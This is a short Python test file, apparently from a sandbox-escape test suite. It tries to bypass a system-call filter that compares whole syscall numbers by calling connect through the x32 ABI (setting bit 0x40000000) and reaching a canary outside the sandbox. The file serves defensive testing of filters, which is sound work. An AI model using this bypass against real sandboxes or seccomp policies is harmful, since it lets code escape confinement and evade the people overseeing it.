"""The x32 ABI has the numbers of x86_64 with one more bit.

attacks: a filter that compares whole numbers
effect: the canary outside accepts a connection
topic: ABI, x32
"""

import errno
import socket

from kit import absent, address, sockaddr, syscall

X32 = 0x40000000
CONNECT = 42

name = sockaddr(*address())
with socket.socket() as s:
    try:
        syscall(X32 | CONNECT, s.fileno(), name, len(name))
    except OSError as error:
        if error.errno == errno.ENOSYS:
            absent("x32")
        raise
